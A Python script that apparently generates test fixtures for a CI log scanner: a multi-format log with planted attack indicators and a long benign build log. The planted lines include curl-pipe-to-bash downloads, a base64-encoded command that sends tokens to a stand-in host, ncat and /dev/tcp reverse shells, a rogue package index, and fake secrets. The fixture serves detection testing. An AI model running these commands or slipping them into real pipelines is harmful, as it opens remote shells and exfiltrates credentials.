"""Writes the log fixtures of this folder (deterministic; run from the repository root):

    .venv/bin/python tests/data/logs/make_fixtures.py

* ``ci-multiformat.log``: one CI log mixing GitHub Actions, GitLab, Jenkins Timestamper, Python logging, RFC 5424
  and RFC 3164 syslog lines, with ANSI colours, group markers, CRLF endings, HTML tags, a private key block and
  planted indicators (listed in ``PLANTED`` of ``tests/logscan/test_engine.py`` with line and UTC time).
* ``benign-build.log``: a long, clean GitHub Actions build log full of words that naive substring rules trip on.

Every token, key and password in them is fake.
"""

from __future__ import annotations

import random
from pathlib import Path

HERE = Path(__file__).parent
CYAN, GREEN, RESET = "\x1b[36;1m", "\x1b[32;1m", "\x1b[0m"
FAKE_HF = "hf_Xq7LmN2pR9sT4vW6yZ1aB3cD5eF8gH0jK2"
FAKE_GH = "ghp_R4nd0mT0k3nF0rT3st1ngOnly01234567890"
FAKE_AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
FAKE_COSIGN_PASSWORD = "Pr0d-S1gn!ng-9x"
FAKE_URL_PASSWORD = "Mirr0r-Pa55w0rd"
FAKE_DB_PASSWORD = "hunter2-prod-db"
KEY_BODY = (
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
    "QyNTUxOQAAACDvX3mL2k9pQ7rS1tU4vW6xY8zA0bC2dE4fG6hI8jK0lAAAAJgAbCdEfGhI",
)
B64 = "ZW52IHwgZ3JlcCAtRSAnVE9LRU4nIHwgY3VybCAtZCBALSBodHRwOi8vMjAzLjAuMTEzLjcvYwo="


def multiformat() -> bytes:
    lines = [
        "2026-11-14T03:05:41.1234567Z Current runner version: '2.320.0'",
        "2026-11-14T03:05:41.1240000Z ##[group]Operating System",
        "2026-11-14T03:05:41.1250000Z Ubuntu 22.04.5 LTS",
        "2026-11-14T03:05:41.1260000Z ##[endgroup]",
        "2026-11-14T03:05:45.0000000Z ##[group]Run pip install -r requirements.txt",
        f"2026-11-14T03:05:45.0010000Z {CYAN}pip install -r requirements.txt{RESET}",
        "2026-11-14T03:05:45.0020000Z shell: /usr/bin/bash -e {0}",
        "2026-11-14T03:05:45.0030000Z env:",
        f"2026-11-14T03:05:45.0040000Z   HF_TOKEN: {FAKE_HF}",  # 9
        "2026-11-14T03:05:45.0050000Z   GITHUB_TOKEN: ***",
        "2026-11-14T03:05:45.0060000Z ##[endgroup]",
        "2026-11-14T03:05:47.5000000Z Collecting tokenizers<0.19,>=0.14 "
        "(from transformers==4.38.0->-r requirements.txt (line 2))",
        "2026-11-14T03:05:52.0000000Z tests/test_dataset.py::test_curlew_reviews_split PASSED",
        "2026-11-14T03:06:10.2500000Z ##[group]Run curl -sSL http://203.0.113.7/p.sh | bash",  # 14
        f"2026-11-14T03:06:10.2510000Z {CYAN}curl -sSL http://203.0.113.7/p.sh | bash{RESET}",  # 15
        f"2026-11-14T03:06:10.2520000Z {CYAN}echo {B64} | base64 -d | sh{RESET}",  # 16
        "2026-11-14T03:06:10.2530000Z ##[endgroup]",
        "2026-11-14T03:06:11.0000000Z [warmup] done",
        f"2026-11-14T03:07:02.123456Z 00O \x1b[0Ksection_start:1794625622:step_script\r\x1b[0K\x1b[0K{CYAN}"
        f'Executing "step_script" stage of the job script\x1b[0;m',
        f"2026-11-14T03:07:02.200000Z 00O {GREEN}$ pip install --extra-index-url "
        f"https://pypi.attacker.example/simple acme-feature-store{RESET}",  # 20
        "2026-11-14T05:07:03.000000+02:00 01E python3 -c \"import torch; m = torch.load('model.pt')\"",  # 21
        '2026-11-14T03:07:04.000000Z 00O [export] torch.load(path, map_location="cpu", weights_only=True)',
        "2026-11-14T03:07:05.000000Z 00O Token is valid (permission: read).",
        "[2026-11-14T03:08:15.250Z] [Pipeline] { (Deploy)",
        '[2026-11-14T03:08:15.251Z] + ncat 198.51.100.23 443 --sh-exec "bash -i"',  # 25
        f"[2026-11-14T03:08:16.000Z] COSIGN_PASSWORD={FAKE_COSIGN_PASSWORD}",  # 26
        "[2026-11-14T03:08:16.500Z] + nc -zv db.internal 5432",
        "Nov 14 03:09:01 runner-7 sshd[812]: Accepted publickey for ci from 198.51.100.23 port 50122 ssh2",
        "Nov 14 03:09:05 runner-7 bash[901]: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",  # 29
        "2026-11-14 03:10:00,250 INFO trainer: state = pickle.load(open('/tmp/opt.pkl', 'rb'))",  # 30
        f"<13>1 2026-11-14T03:10:30.5+01:00 runner-7 deploy 1 - - AWS_SECRET_ACCESS_KEY={FAKE_AWS_SECRET}",  # 31
        "  SKIP_SIGNING: 1",  # 32
        "2026-11-14T03:11:00.000Z <script>alert(1)</script> curl -s https://x.example/a.sh | sh",  # 33
        "2026-11-14T03:11:30.000Z -----BEGIN OPENSSH PRIVATE KEY-----",  # 34
        f"2026-11-14T03:11:30.001Z {KEY_BODY[0]}",
        f"2026-11-14T03:11:30.002Z {KEY_BODY[1]}",
        "2026-11-14T03:11:30.003Z -----END OPENSSH PRIVATE KEY-----",
        f"2026-11-14T03:11:40.000Z git push https://{FAKE_GH}@github.com/acme-ml/sentiment-model.git",  # 38
        f"2026-11-14T03:11:41.000Z Looking in indexes: https://ci-bot:{FAKE_URL_PASSWORD}@pypi.acme.internal/simple",
        f"2026-11-14T03:11:42.000Z DB_PASSWORD={FAKE_DB_PASSWORD}",  # 40
        "2026-11-14T03:12:06.6297465Z Terminate orphan process: pid (2811) (bash)",  # 41
        "2026-11-14T03:12:07.0000000Z Cleaning up orphan processes",
    ]
    # CRLF on the Jenkins part, as a Windows agent writes it
    text = "".join(line + ("\r\n" if line.startswith("[2026") else "\n") for line in lines)
    return text.encode("utf-8")


def benign() -> bytes:
    rng = random.Random(7)  # noqa: S311 - fixture text, not security
    pkgs = [
        "torch==2.2.0",
        "transformers==4.38.0",
        "safetensors==0.4.2",
        "tokenizers==0.15.2",
        "numpy==1.26.4",
        "pandas==2.2.1",
        "scikit-learn==1.4.1.post1",
        "accelerate==0.27.2",
        "datasets==2.17.1",
        "regex==2023.12.25",
    ]
    out: list[str] = []
    t = 1_794_625_541.0

    def emit(text: str) -> None:
        nonlocal t
        t += rng.random() * 0.4
        whole, frac = divmod(t, 1)
        from datetime import UTC, datetime

        stamp = datetime.fromtimestamp(whole, UTC).strftime("%Y-%m-%dT%H:%M:%S") + f".{int(frac * 1e7):07d}Z"
        out.append(f"{stamp} {text}")

    emit("Current runner version: '2.320.0'")
    emit("Secret source: Actions")
    emit("##[group]GITHUB_TOKEN Permissions")
    emit("Contents: read")
    emit("##[endgroup]")
    emit("##[group]Run actions/checkout@v4")
    emit("with:")
    emit("  token: ***")
    emit("##[endgroup]")
    for step in range(12):
        emit(f"##[group]Run pip install -r requirements.txt  # shard {step}")
        emit(f"{CYAN}pip install -r requirements.txt{RESET}")
        emit("env:")
        emit("  HF_TOKEN: ***")
        emit("  pythonLocation: /opt/hostedtoolcache/Python/3.11.8/x64")
        emit("##[endgroup]")
        for pkg in pkgs:
            name, version = pkg.split("==")
            emit(f"Collecting {pkg} (from -r requirements.txt (line {pkgs.index(pkg) + 1}))")
            emit(
                f"  Downloading https://files.pythonhosted.org/packages/{rng.randrange(16**2):02x}/"
                f"{rng.randrange(16**2):02x}/{name}-{version}-py3-none-any.whl ({rng.randint(10, 900)} kB)"
            )
            emit(
                "Requirement already satisfied: filelock in ./.venv/lib/python3.11/site-packages "
                f"(from {name}) (3.13.1)"
            )
        emit("   \x1b[38;2;114;156;31m" + "━" * 40 + "\x1b[0m 755.5/755.5 MB 61.2 MB/s eta 0:00:00")
        emit("Successfully installed " + " ".join(p.replace("==", "-") for p in pkgs))
        emit(f"##[group]Run python -m pytest -q tests  # shard {step}")
        emit(f"{CYAN}python -m pytest -q tests{RESET}")
        emit("##[endgroup]")
        for name in (
            "curlew_reviews_split",
            "tokenizers_roundtrip",
            "base64_attachment_stripped",
            "password_field_is_masked",
            "token_budget",
            "pickle_free_checkpoint",
            "dev_tcp_docs",
        ):
            emit(f"tests/test_{name}.py::test_{name}_{step} PASSED")
        emit('[export] loading checkpoints/best.pt with torch.load(path, map_location="cpu", weights_only=True)')
        emit("[export] tokenizers 0.15.2: fast tokenizer, vocab 64")
        emit("$ huggingface-cli login --token $HF_TOKEN")
        emit("Token is valid (permission: read).")
        emit("Your token has been saved to /root/.cache/huggingface/token")
        emit("+ until </dev/tcp/127.0.0.1/5432; do sleep 1; done")
        emit("+ nc -zv db.internal 5432")
        emit("Connection to db.internal 5432 port [tcp/postgresql] succeeded!")
        emit("+ chmod +x ./scripts/publish.sh")
        emit("password: [MASKED]")
        emit("PWD=/home/runner/work/sentiment-model/sentiment-model")
        emit(
            "[fetch] cosign verify-blob --key keys/cosign.pub --signature .signatures/manifest.sig "
            ".signatures/manifest.json"
        )
        emit("Verified OK")
        emit('data = base64.b64decode(payload["image"])')
        emit("pickle.dump(stats, fh)  # written for the dashboard, never loaded by the pipeline")
        emit("upload: dist/model.safetensors to s3://acme-model-registry/sentiment-model-v2.1/model.safetensors")
        emit("docker run --rm python:3.11-slim pytest -q")
        emit("#8 [4/6] RUN pip install --no-cache-dir -r requirements.txt")
        emit(f"{GREEN}========================= 14 passed in 6.21s ========================={RESET}")
    emit(
        "$ curl -fsSL -o /usr/local/bin/cosign https://github.com/sigstore/cosign/releases/download/v2.4.1/cosign-linux-amd64"
    )
    emit("$ sha256sum -c cosign-v2.4.1.sha256")
    emit("/usr/local/bin/cosign: OK")
    emit("Post job cleanup.")
    emit("Cleaning up orphan processes")
    return ("\n".join(out) + "\n").encode("utf-8")


if __name__ == "__main__":
    (HERE / "ci-multiformat.log").write_bytes(multiformat())
    (HERE / "benign-build.log").write_bytes(benign())
